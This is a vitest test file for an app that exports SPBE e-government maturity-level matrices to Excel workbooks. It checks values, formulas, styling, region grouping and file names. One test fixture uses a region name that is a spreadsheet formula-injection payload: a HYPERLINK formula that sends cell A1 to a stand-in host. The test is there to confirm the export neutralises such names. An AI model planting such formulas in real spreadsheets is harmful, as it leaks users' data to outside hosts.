/** The matrix workbook: levels as they count, blocks for what cannot be compared, results by formula. */
import { beforeAll, describe, expect, it } from 'vitest';
import { buildMatrixWorkbook, matrixFileName } from '../../electron/excel/export/matrix/matrix-workbook.ts';
import { countedStage, effectiveValues } from '../../shared/assessment/stages.ts';
import { toNumber } from '../../shared/scoring/exact.ts';
import { score } from '../../shared/scoring/score.ts';
import { exampleRegions, matrixExample } from '../support/export-inputs.ts';
import {
  isFormula,
  libreOffice,
  rowsOf,
  rowWith,
  valuesOf,
  WITH_LIBREOFFICE,
  withExceljs,
  type Sheets,
} from '../support/exported-workbook.ts';
import { ALL_INSTRUMENTS, spbe2020 } from '../support/instruments.ts';
import { convertWithLibreOffice } from '../support/libreoffice.ts';
import { openTestApplication } from '../support/temporary.ts';

const FIRST_LEVEL = 4;

describe.each(ALL_INSTRUMENTS)('the matrix on $id', (instrument) => {
  const input = matrixExample(instrument);
  const count = instrument.indicators.length;
  let bytes: Uint8Array;
  let sheets: Sheets;
  beforeAll(async () => {
    bytes = await buildMatrixWorkbook(input);
    sheets = await valuesOf(bytes);
  });
  const rows = (name: string) => rowsOf(sheets, name);

  it('shows the levels that count, as numbers, and blanks as blanks', () => {
    for (const { region, stages, participation } of exampleRegions(instrument)) {
      const stage = countedStage(stages, null);
      if (!stage || participation !== 'ikut' || region.name.startsWith('=')) continue;
      const levels = effectiveValues(stages, stage);
      const shown = rowWith(rows('Matriks'), region.name).slice(FIRST_LEVEL, FIRST_LEVEL + count);
      const expected = instrument.indicators.map(({ id }) => {
        const value = levels.get(id);
        return value === undefined ? null : value / 100;
      });
      expect(
        shown.map((value) => value ?? null),
        region.name,
      ).toEqual(expected);
    }
  });

  it('shows inherited levels in italics', async () => {
    const sheet = (await withExceljs(bytes)).getWorksheet('Matriks');
    const row = rows('Matriks').findIndex((cells) => cells.includes('Kabupaten Arus')) + 1;
    const italics = instrument.indicators.map(
      (_, position) => sheet?.getCell(row, FIRST_LEVEL + 1 + position).font?.italic ?? false,
    );
    // Assessors took up the first four.
    expect(italics).toEqual(instrument.indicators.map((_, position) => position >= 4));
  });

  it('computes aspects, domains, index and predikat by formulas to the application’s numbers', async () => {
    const sheet = (await withExceljs(bytes)).getWorksheet('Hasil');
    for (const name of ['Kabupaten Arus', 'Kabupaten Bukit', 'Provinsi Contoh']) {
      const { stages } = exampleRegions(instrument).find(({ region }) => region.name === name) ?? {
        stages: {},
      };
      const stage = countedStage(stages, null) ?? 'mandiri';
      const expected = score(instrument, effectiveValues(stages, stage));
      const row = rowWith(rows('Hasil'), name);
      const numbers = [...expected.aspects, ...expected.domains].map(({ value }) => value);
      const all = [...numbers, expected.index].map((value) => (value ? toNumber(value) : Number.NaN));
      all.forEach((value, position) => expect(row[2 + position]).toBeCloseTo(value, 12));
      expect(row[2 + all.length]).toBe(expected.predikat);
      const place = rows('Hasil').indexOf(row) + 1;
      for (let column = 3; column <= 3 + all.length; column += 1) {
        expect(isFormula(sheet?.getCell(place, column)), `column ${column}`).toBe(true);
      }
    }
  });

  it('keeps apart what is incomplete, absent or without levels, and the province', () => {
    const names = rows('Hasil').map((row) => row.slice(0, 2).find((value) => typeof value === 'string'));
    const at = (name: string) => names.indexOf(name);
    expect(at('Kabupaten Bukit')).toBeLessThan(at('Rata-rata'));
    expect(at('Rata-rata')).toBeLessThan(at('Belum lengkap'));
    expect(at('Kabupaten Celah')).toBe(at('Belum lengkap') + 1);
    expect(at('Kota Embun')).toBe(at('Belum ada level indikator') + 1);
    expect(at('Kabupaten Danau')).toBe(at('Tidak mengikuti evaluasi') + 1);
    expect(at('Provinsi Contoh')).toBe(at('Pemerintah provinsi') + 1);
    expect(rows('Hasil').flat().join('\n')).toContain('; Laporan publik tidak menyebut jenis daerahnya');
    const incomplete = rowWith(rows('Hasil'), 'Kabupaten Celah');
    expect(incomplete).toContain('–');
    expect(incomplete.at(-1)).toMatch(
      new RegExp(`^Terisi ${count - 2} dari ${count} indikator; indeks akhir `),
    );
  });

  it('averages the complete regencies only', () => {
    const names = [
      'Kabupaten Arus',
      'Kabupaten Bukit',
      '\'=HYPERLINK("http://contoh.invalid/?"&A1,"Kabupaten Baris")',
    ];
    const column = 2 + instrument.aspects.length + instrument.domains.length;
    const indices = names.map((name) => Number(rowWith(rows('Hasil'), name)[column]));
    const mean = indices.reduce((total, index) => total + index, 0) / indices.length;
    expect(rowWith(rows('Hasil'), 'Rata-rata')[column]).toBeCloseTo(mean, 9);
  });

  it('tints levels from light to dark, also in grey', async () => {
    const sheet = (await withExceljs(bytes)).getWorksheet('Matriks');
    const legend = rows('Matriks').findIndex((row) => row.includes('Warna level')) + 1;
    const { min, max } = instrument.scale;
    const greys = Array.from({ length: max - min + 1 }, (_, position) => {
      const { fill } = sheet?.getCell(legend, FIRST_LEVEL + 1 + position) ?? {};
      const colour = fill?.type === 'pattern' ? (fill.fgColor?.argb ?? '') : '';
      const [red = 0, green = 0, blue = 0] = [2, 4, 6].map((start) =>
        Number.parseInt(colour.slice(start, start + 2), 16),
      );
      return 0.299 * red + 0.587 * green + 0.114 * blue;
    });
    for (const [position, grey] of greys.slice(1).entries()) {
      expect(grey).toBeLessThan((greys[position] ?? 0) - 4);
    }
  });
});

describe('the matrix at a stage', () => {
  it('shows only regions that have reached it, and says which have not', async () => {
    const bytes = await buildMatrixWorkbook(matrixExample(spbe2020, { stage: 'dokumen' }));
    const rows = rowsOf(await valuesOf(bytes), 'Hasil');
    expect(rowWith(rows, 'Kabupaten Arus')[0]).toBe(1);
    expect(rowWith(rows, 'Kabupaten Bukit')[2]).toBe('Belum mencapai tahap penilaian dokumen');
  });

  it.skipIf(!libreOffice)(`follows a level that somebody changes when ${WITH_LIBREOFFICE}`, async () => {
    const input = matrixExample(spbe2020);
    const workbook = await withExceljs(await buildMatrixWorkbook(input));
    const sheet = workbook.getWorksheet('Matriks');
    sheet?.eachRow((row) => {
      if (row.getCell(2).value === 'Kabupaten Bukit') row.getCell(FIRST_LEVEL + 1).value = 5;
    });
    const bytes = new Uint8Array(await workbook.xlsx.writeBuffer());
    const files = await convertWithLibreOffice(libreOffice ?? '', bytes, 'xlsx');
    const rows = rowsOf(await valuesOf(files.get('workbook.xlsx') ?? new Uint8Array()), 'Hasil');
    const stages = input.regions.find(({ region }) => region.name === 'Kabupaten Bukit')?.stages.mandiri;
    const expected = score(spbe2020, new Map([...(stages ?? []), ['1', 500]])).index;
    const column = 2 + spbe2020.aspects.length + spbe2020.domains.length;
    expect(rowWith(rows, 'Kabupaten Bukit')[column]).toBeCloseTo(
      expected ? toNumber(expected) : Number.NaN,
      12,
    );
  });
});

describe('the application', () => {
  it('hands out a matrix of every region of the home province, also before anything is stored', async () => {
    const app = openTestApplication();
    const { bytes, fileName } = await app.call('workbook.export', {
      kind: 'matrix',
      year: 2022,
      stage: 'mandiri',
    });
    expect(fileName).toBe('Matriks level SPBE 2022 Nusa Tenggara Timur mandiri.xlsx');
    const rows = rowsOf(await valuesOf(bytes), 'Hasil');
    expect(rows.filter((row) => /^(Kabupaten|Kota) /.test(String(row[1])))).toHaveLength(22);
    expect(rows.flat()).toContain('Belum ada kabupaten/kota yang lengkap');
  });

  it('names the file after year and province', () => {
    expect(matrixFileName(matrixExample(spbe2020))).toBe('Matriks level SPBE 2022 Contoh Timur.xlsx');
  });
});
